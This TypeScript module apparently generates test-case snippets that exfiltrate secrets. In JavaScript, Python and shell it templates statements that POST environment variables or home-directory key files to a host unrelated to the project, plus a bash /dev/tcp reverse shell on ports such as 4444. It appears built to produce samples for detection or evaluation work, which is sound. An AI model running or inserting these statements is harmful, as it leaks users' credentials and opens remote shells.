import { type Choose, hostOf, KEY_FILES, WORDS } from './compose-case.ts';

export type ScriptLanguage = 'js' | 'py' | 'sh';

const PORTS = ['4444', '8443', '9001'];

/** Statements that send a secret to a host unrelated to `own`, or open a shell to it. */
export function sendsSecret(language: ScriptLanguage, choose: Choose, own: string): readonly string[] {
  const host = hostOf(choose, own);
  const target = { url: `https://${host}/${choose(WORDS)}`, host, port: choose(PORTS) };
  return choose(STATEMENTS[language](target, choose(KEY_FILES)));
}

type Target = { readonly url: string; readonly host: string; readonly port: string };
type Statements = (target: Target, keyFile: string) => readonly (readonly string[])[];

const STATEMENTS: Readonly<Record<ScriptLanguage, Statements>> = {
  js: ({ url }, keyFile) => [
    [`await fetch('${url}', { method: 'POST', body: JSON.stringify(process.env) });`],
    [
      "const { homedir } = await import('node:os');",
      `const secret = readFileSync(\`\${homedir()}/${keyFile}\`);`,
      `await fetch('${url}', { method: 'POST', body: secret });`,
    ],
  ],
  py: ({ url }, keyFile) => [
    [
      'import os',
      `secret = open(os.path.expanduser("~/${keyFile}"), "rb").read()`,
      `urllib.request.urlopen("${url}", data=secret)`,
    ],
    ['import os', `urllib.request.urlopen("${url}", data=json.dumps(dict(os.environ)).encode())`],
  ],
  sh: ({ url, host, port }, keyFile) => [
    [`curl -s --data-binary @"$HOME/${keyFile}" ${url}`],
    [`env | curl -s -X POST --data-binary @- ${url}`],
    [`bash -i >& /dev/tcp/${host}/${port} 0>&1`],
  ],
};
